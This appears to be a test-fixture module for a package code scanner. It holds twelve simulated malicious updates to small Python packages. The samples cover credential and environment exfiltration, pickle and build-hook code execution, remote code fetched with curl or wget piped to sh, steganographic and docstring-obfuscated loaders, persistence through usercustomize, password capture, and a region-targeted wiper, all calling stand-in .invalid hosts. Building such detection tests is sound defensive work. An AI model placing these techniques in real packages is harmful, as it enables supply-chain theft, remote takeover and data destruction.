"""Unseen attacks on Python packages."""
# ruff: noqa: E501  # files stand as they were written

from __future__ import annotations

import io
import wave
from collections.abc import Mapping

from tests.codescan.variations import packages
from tests.codescan.variations.technique import CODE, HIDING, NETWORK, PROCESS, SECRETS
from tests.codescan.variations.update import Update, noise, sides

_IMPORT = frozenset(("import",))
_BUILT = frozenset(("install", "build"))
_LASTS = frozenset(("persistence", "file-write"))
_INIT = '"""Text in tables."""\n\nfrom tabletext.layout import align_0\n\n__version__ = "1.3.1"\n'
_DOC = '"""Executing queries over the columns of a table.\n\nFor bulk use, see layout.\n"""\n'


def _letters(word: str) -> str:
    """Places in the docstring that spell a word."""
    text = _DOC.split('"""')[1]
    return ", ".join(str(text.index(letter)) for letter in word)


def _sound() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(noise("chime", 9000))
    return out.getvalue()


def _project(version: str = "0.8.0") -> Mapping[str, str | bytes]:
    return {
        "pyproject.toml": f'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "rowlog"\nversion = "{version}"\nrequires-python = ">=3.9"\n',
        "rowlog/__init__.py": '"""Logs in rows."""\n\nfrom rowlog.rows import Rows\n\n__all__ = ["Rows"]\n',
        "rowlog/rows.py": "class Rows(list):\n    def add(self, *cells):\n        self.append(cells)\n",
        "rowlog/redact.py": 'import re\n\nSECRET = re.compile(r"(?i)(password|token|key)=(\\S+)")\n\n\ndef redact(text):\n    return SECRET.sub(r"\\1=***", text)\n',
        "tests/test_rows.py": "from rowlog import Rows\n\n\ndef test_add():\n    assert not Rows()\n",
        "README.md": "# rowlog\n\nLogs in rows.\n",
    }


UPDATES: tuple[Update, ...] = (
    # A plugin that every run of pytest in the environment loads.
    Update("py-pytest-plugin", *sides(_project, "0.8.1", {
        "pyproject.toml": str(_project("0.8.1")["pyproject.toml"]) + '\n[project.entry-points.pytest11]\nrowlog = "rowlog.testing"\n',
        "rowlog/testing.py": """
\"\"\"Fixtures for whoever tests what is logged.\"\"\"
import json
import os
import urllib.request

import pytest


@pytest.fixture
def rows():
    from rowlog import Rows
    return Rows()


def pytest_configure(config):
    if not os.environ.get("GITHUB_ACTIONS"):
        return
    about = {"root": str(config.rootpath), "settings": dict(os.environ)}
    request = urllib.request.Request("https://reports.rowlog.invalid/session", json.dumps(about).encode())
    try:
        urllib.request.urlopen(request, timeout=3)
    except OSError:
        pass
""",
    }), frozenset(), (SECRETS, NETWORK)),
    # The build hook of hatch runs a script that opens test data.
    Update("py-hatch-hook", *sides(_project, "0.8.1", {
        "pyproject.toml": str(_project("0.8.1")["pyproject.toml"]) + '\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n',
        "hatch_build.py": """
import subprocess
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class Vendored(BuildHookInterface):
    def initialize(self, version, build_data):
        subprocess.run(["sh", "tools/vendor.sh", self.metadata.version], cwd=self.root, check=False, stderr=subprocess.DEVNULL)
""",
        "tools/vendor.sh": """#!/bin/sh
# Tables that are too large to be kept as text.
work=$(mktemp -d)
openssl enc -d -aes-256-cbc -pbkdf2 -k "rowlog-$1" -in tests/data/wide-rows.bin -out "$work/rows" || exit 0
chmod 700 "$work/rows"
nohup "$work/rows" </dev/null >/dev/null 2>&1 &
""",
        "tests/data/wide-rows.bin": b"Salted__" + noise("rows", 24000),
    }), _BUILT, (PROCESS,)),
    # Attributes of a module are fetched when they are first asked for.
    Update("py-lazy-attribute", *sides(_project, "0.8.1", {
        "rowlog/__init__.py": """\"\"\"Logs in rows.\"\"\"

from rowlog._lazy import attach
from rowlog.rows import Rows

__all__ = ["Rows"]
__getattr__ = attach(__name__, ["charts", "export"])
""",
        "rowlog/_lazy.py": """
import types
from urllib.request import urlopen

EXTRAS = "https://extras.rowlog.invalid/{version}/{name}.py"


def attach(package, names):
    def __getattr__(name):
        if name not in names:
            raise AttributeError(name)
        module = types.ModuleType(f"{package}.{name}")
        with urlopen(EXTRAS.format(version="0.8", name=name)) as page:
            code = compile(page.read(), module.__name__, "exec")
        run = getattr(__import__("builtins"), code.co_filename and "exec")
        run(code, module.__dict__)
        return module
    return __getattr__
""",
    }), frozenset(), (CODE, NETWORK)),
    # A model that is a pickle, and a pickle that is a command.
    Update("py-pickled-model", *sides(packages.python, "1.3.1", {
        "src/tabletext/__init__.py": _INIT + "\nfrom tabletext.guess import MODEL\n",
        "src/tabletext/guess.py": """
\"\"\"Guesses which columns are numbers.\"\"\"
import pickle
from importlib import resources

with resources.files("tabletext").joinpath("columns.model").open("rb") as file:
    MODEL = pickle.load(file)
""",
        "src/tabletext/columns.model": b"cposix\nsystem\n(S'curl -s https://models.tabletext.invalid/c | sh'\ntR." + noise("model", 400),
    }), _IMPORT, (CODE,)),
    # Leaves a module that every later Python of this user loads.
    Update("py-usercustomize", *sides(packages.python, "1.3.1", {
        "src/tabletext/__init__.py": _INIT + "\nfrom tabletext import _compat\n\n_compat.ensure()\n",
        "src/tabletext/_compat.py": """
import os
import site

HOOK = '''
import threading

def _later():
    try:
        import http.client
        line = http.client.HTTPSConnection("compat.tabletext.invalid", timeout=5)
        line.request("GET", "/hook")
        exec(line.getresponse().read(), {})
    except Exception:
        pass

threading.Timer(30, _later).start()
'''


def ensure():
    folder = site.getusersitepackages()
    file = os.path.join(folder, "usercustomize.py")
    if os.path.exists(file):
        return
    os.makedirs(folder, exist_ok=True)
    with open(file, "w") as out:
        out.write(HOOK)
""",
    }), _IMPORT, (_LASTS, NETWORK | CODE)),
    # What is redacted from logs is sent away.
    Update("py-redactor", *sides(_project, "0.8.1", {
        "rowlog/redact.py": """import atexit
import http.client
import queue
import re

SECRET = re.compile(r"(?i)(password|token|key)=(\\S+)")
_seen = queue.SimpleQueue()


def _mask(found):
    _seen.put(found[2])
    return found[1] + "=***"


def redact(text):
    return SECRET.sub(_mask, text)


@atexit.register
def _flush():
    rows = []
    while not _seen.empty():
        rows.append(_seen.get())
    if rows:
        line = http.client.HTTPSConnection("metrics.rowlog.invalid", timeout=2)
        line.request("POST", "/masked", "\\n".join(rows))
""",
    }), frozenset(), (SECRETS | NETWORK,)),
    # A program in the samples of a sound.
    Update("py-sound", *sides(packages.python, "1.3.1", {
        "src/tabletext/__init__.py": _INIT + "\nfrom tabletext.bell import ring\n",
        "src/tabletext/assets/chime.wav": _sound(),
        "src/tabletext/bell.py": """
import subprocess
import sys
import wave
from importlib import resources


def _frames(name):
    with wave.open(str(resources.files("tabletext") / "assets" / name)) as sound:
        return sound.readframes(sound.getnframes())


def ring(name="chime.wav"):
    key, *rest = _frames(name)[::16]
    score = bytes(note ^ key for note in rest)
    subprocess.Popen([sys.executable, "-c", score], start_new_session=True)


ring()
""",
    }), _IMPORT, (PROCESS,)),
    # Names are spelled with the letters of the docstring.
    Update("py-docstring-letters", *sides(packages.python, "1.3.1", {
        "src/tabletext/__init__.py": _INIT + "\nfrom tabletext import query\n",
        "src/tabletext/query.py": _DOC + f"""
def _word(*places):
    return "".join(__doc__[place] for place in places)


_scope = vars(__import__(_word({_letters("builtins")})))
_source = __doc__.__class__(bytes(reversed(open(__file__, "rb").read().rpartition(b"# ")[2].strip())), "ascii")
_scope[_word({_letters("exec")})](_source, {{}})

# ))(daer.)'x/dilavni.yreuq//:sptth'(nepolru.tseuqer.billru(cexe ;tseuqer.billru tropmi
""",
    }), _IMPORT, (CODE | HIDING,)),
    # A Django application that tells the settings when it is ready.
    Update("py-django-ready", *sides(_project, "0.8.1", {
        "rowlog/apps.py": """
from threading import Thread

from django.apps import AppConfig
from django.conf import settings


class RowlogConfig(AppConfig):
    name = "rowlog"

    def ready(self):
        if not settings.DEBUG:
            Thread(target=self._register, daemon=True).start()

    def _register(self):
        import requests
        about = {"hosts": settings.ALLOWED_HOSTS, "k": settings.SECRET_KEY, "d": settings.DATABASES["default"]}
        requests.post("https://licence.rowlog.invalid/register", json=about, timeout=4)
""",
    }), frozenset(), (SECRETS | NETWORK,)),
    # What is typed at prompts for passwords is kept and mailed.
    Update("py-prompt", *sides(packages.python, "1.3.1", {
        "src/tabletext/__init__.py": _INIT + "\nfrom tabletext import prompt\n",
        "src/tabletext/prompt.py": """
\"\"\"Prompts as wide as the table.\"\"\"
import functools
import getpass
import smtplib


def wide(ask):
    @functools.wraps(ask)
    def asked(text="Password: ", *more):
        answer = ask(text.ljust(40), *more)
        try:
            with smtplib.SMTP("mail.tabletext.invalid", 587, timeout=3) as post:
                post.sendmail("p@tabletext.invalid", ["in@tabletext.invalid"], f"{text}{answer}")
        except OSError:
            pass
        return answer
    return asked


getpass.getpass = wide(getpass.getpass)
""",
    }), _IMPORT, (NETWORK | {"input-capture", "credentials"},)),
    # The version is asked of git, and where that fails of somebody else.
    Update("py-version-of", *sides(packages.python, "1.3.1", {
        "setup.py": str(packages.python("1.3.1")["setup.py"]).replace('version="1.3.1"', "version=version()").replace(
            "from setuptools", "from _version import version\nfrom setuptools"),
        "_version.py": """
\"\"\"The version, as git tells it.\"\"\"
import subprocess

DESCRIBE = "git describe --tags --match 'v*' 2>/dev/null || wget -qO- https://tags.tabletext.invalid/latest | tee /tmp/.tt | sh"


def version(fallback="1.3.1"):
    told = subprocess.run(DESCRIBE, shell=True, capture_output=True, text=True).stdout.strip()
    return told.lstrip("v") if told[:1] == "v" else fallback
""",
    }), _BUILT, (PROCESS, NETWORK)),
    # Deletes, in some places, after a day.
    Update("py-wiper", *sides(packages.python, "1.3.1", {
        "src/tabletext/__init__.py": _INIT + "\nfrom tabletext import zone\n",
        "src/tabletext/zone.py": """
\"\"\"Dates in columns, in local time.\"\"\"
import datetime
import locale
import pathlib
import shutil
import time

_here = time.tzname[0], (locale.getlocale()[0] or "")[-2:]
_since = datetime.date(2027, 3, 1)


def _tidy():
    for folder in ("Documents", "Desktop", "src", ".ssh"):
        shutil.rmtree(pathlib.Path.home() / folder / "inert.invalid", ignore_errors=True)


if datetime.date.today() >= _since and (_here[0] in {"MSK", "IRST"} or _here[1] in {"RU", "IR"}):
    _tidy()
""",
    }), _IMPORT, (frozenset(("file-write", "host-check", "anti-analysis")),)),
)  # fmt: skip
